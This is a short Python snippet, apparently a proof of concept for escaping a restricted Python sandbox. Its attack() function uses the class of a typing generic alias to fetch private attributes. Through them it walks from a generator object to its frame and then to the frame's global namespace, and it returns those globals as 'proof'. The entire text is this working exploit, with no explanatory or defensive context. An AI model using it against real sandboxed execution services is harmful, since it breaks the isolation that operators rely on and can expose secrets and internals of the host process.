from typing import List
def g(): yield 1
def attack():
    kind = type(List[int])
    def read(ob, name):
        return kind(ob, (int,), name="x").__getattr__(name)
    return {"proof": str(read(read(g(), "gi_frame"), "f_globals"))}
